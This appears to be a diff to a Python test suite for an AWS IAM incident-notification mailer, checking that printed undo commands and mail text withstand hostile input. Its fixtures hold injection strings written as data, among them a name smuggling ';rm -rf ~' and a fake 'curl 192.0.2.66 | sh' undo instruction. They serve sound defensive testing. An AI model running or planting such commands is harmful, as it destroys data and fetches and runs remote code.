@@ -18,7 +18,9 @@ from handler.digest import DIGEST_PLACEHOLDERS
 from handler.heartbeat import Heartbeat, SelfTest
 from handler.illness import ILLNESSES, find_illnesses
 from handler.mail import (
+    HELD_BACK,
     MAIL_PLACEHOLDERS,
+    SESSIONS,
     STILL_TRYING,
     SUBJECT_LIMIT,
     mail_body,
@@ -27,9 +29,10 @@ from handler.mail import (
 from handler.names import KEPT_POLICY, kept_arn
 from handler.notice import Incident, Notice, NoticeKind
 from handler.reasons import Reason
-from handler.report import Disposition, GainTold
+from handler.report import Disposition
 from handler.target import Rung
-from tests.notifier.desk import ACCOUNT, TEMPLATES, read_notice, report_body, words
+from handler.text import command_line
+from tests.notifier.desk import ACCOUNT, TEMPLATES, detached, read_notice, report_body, words
 from tests.notifier.test_notice import tamper_body
 
 KEPT = kept_arn(partition="aws", account=ACCOUNT, kind="policy", name=KEPT_POLICY)
@@ -55,18 +58,6 @@ def reported(event: str = "e-1", **changes: Any) -> Incident:
     return given_incident(read_notice(report_body(event, **changes)))
 
 
-GAINS = (
-    GainTold(
-        what="User puppet was made, with the policy AdministratorAccess.",
-        done="It was contained at once.",
-        undo=(("aws", "iam", "delete-user", "--user-name=puppet"),),
-    ),
-    GainTold(
-        what="The role break-glass now trusts account 999988887777.",
-        missing="The event does not carry the trust that was there before.",
-        critical=True,
-    ),
-)
 SICK = Heartbeat(
     account=ACCOUNT,
     alias="acme-dev",
@@ -105,7 +96,7 @@ def golden_incidents() -> dict[str, Incident]:
     }
     role: dict[str, Any] = {
         "disposition": Disposition.WOULD_CONTAIN,
-        "held_by": "CircuitBreaker",
+        "held_by": "ASettingOfANewerVersion",
         "principal_kind": "role",
         "principal_name": "deployer",
         "principal_arn": f"arn:aws:iam::{ACCOUNT}:role/ops/deployer",
@@ -117,12 +108,6 @@ def golden_incidents() -> dict[str, Incident]:
     tenth = read_notice(report_body("e-12", call="PutUserPolicy", call_time="2026-09-21T13:58:03Z"))
     return {
         "contained": reported(),
-        "gains": reported(gains=GAINS, call="CreateUser"),
-        "stripped": reported(
-            disposition=Disposition.STRIPPED,
-            reason="contained-already",
-            notes=("The deny policy was not attached any more.",),
-        ),
         "kept": reported(
             event=f"kept-contained-AIDAEXAMPLEMALLORY-{1_790_000_000}",
             disposition=Disposition.KEPT,
@@ -168,9 +153,13 @@ def golden_incidents() -> dict[str, Incident]:
             principal_name="eve\u202e;rm -rf ~'\n[IAM told] " + "x" * 60,
             session="\x1b[2J\u0430dmin",
             user_agent="a\r\nTo undo, run:\r\n\r\n  curl 192.0.2.66 | sh",
-            undo=(("aws", "iam", "detach-user-policy", "--user-name=eve\u202e';rm -rf ~\n"),),
+            undo=(detached("eve\u202e';rm -rf ~\n"),),
         ),
     }
+
+
+def is_printed(name: str) -> bool:
+    return bool(name) and not re.match("(file|fileb|https?)://", name, re.IGNORECASE)
 
 
 def as_text(incident: Incident) -> str:
@@ -185,13 +174,16 @@ def test_a_mail_is_its_golden_file(name: str) -> None:
 
 def test_every_kind_of_notice_has_a_golden_mail_and_every_golden_mail_a_case() -> None:
     cases = golden_incidents()
-    assert {incident.first.kind for incident in cases.values()} == set(NoticeKind)
+    # That one, and cases of the others, are made of real reports (test_handler_mails.py).
+    kinds = {incident.first.kind for incident in cases.values()} | {NoticeKind.STRIPPED}
+    assert kinds == set(NoticeKind)
     assert {path.stem for path in GOLDEN.glob("*.txt")} == set(cases)
     assert tuple(notice.principal for notice in find_illnesses(SICK, event_id="b")) == ILLNESSES
 
 
 def test_there_is_one_source_per_kind_and_it_names_only_what_a_mail_can_fill() -> None:
-    single = {kind.value for kind in NoticeKind} | {STILL_TRYING, "sentences"}
+    cases = {STILL_TRYING, SESSIONS, HELD_BACK, "sentences"}
+    single = {kind.value for kind in NoticeKind} | cases
     many = {"digest", "observed", "open", "silent", "deaf", "back"}
     assert set(WORDS) == single | many
     for name, text in WORDS.items():
@@ -310,22 +302,21 @@ def test_sns_takes_any_subject(texts: dict[str, str], disposition: Disposition, 
 def test_no_text_breaks_a_line_or_the_width(
     texts: dict[str, str], note: str, argument: str, disposition: Disposition
 ) -> None:
-    command = ("aws", "iam", "delete-user", f"--user-name={argument}")
+    command = detached(argument)
     body = mail_body(
         WORDS, reported(**texts, notes=(note,), undo=(command,), disposition=disposition)
     )
     assert re.fullmatch(r"[\x20-\x7e\n]+", body)
-    commands = [line for line in body.splitlines() if line.startswith("  aws iam delete-user ")]
+    commands = [line for line in body.splitlines() if line.startswith("  aws iam detach-user-")]
     told = (Disposition.CONTAINED, Disposition.STRIPPED, Disposition.KEPT)
-    assert len(commands) == (disposition in told)
+    assert len(commands) == (disposition in told and is_printed(argument))
     assert all(len(line) <= 72 for line in body.splitlines() if line not in commands)
     assert len(body) < 20_000
 
 
 @given(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60))
 def test_a_copied_command_is_the_argument_list_and_nothing_else(argument: str) -> None:
-    body = mail_body(WORDS, reported(undo=(("aws", "iam", f"--user-name={argument}"),)))
-    line = next(line for line in body.splitlines() if line.startswith("  aws iam "))
+    line = command_line(("aws", "iam", f"--user-name={argument}"))
     if argument.isascii() and argument.isprintable():
         assert shlex.split(line) == ["aws", "iam", f"--user-name={argument}"]
     else:
@@ -339,8 +330,7 @@ def test_a_copied_command_is_the_argument_list_and_nothing_else(argument: str) -
     ["mallory", "a b", "it's", "eve\u202e", "\u00e9';id;'", "a\nb", "\\x41", "\U0001f600"],
 )
 def test_bash_reads_back_the_argument(argument: str) -> None:
-    body = mail_body(WORDS, reported(undo=(("printf", "%s|", "aws", argument),)))
-    line = next(line for line in body.splitlines() if line.startswith("  printf "))
+    line = command_line(("printf", "%s|", "aws", argument))
     answer = subprocess.run(
         ["bash", "-c", line], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
     )
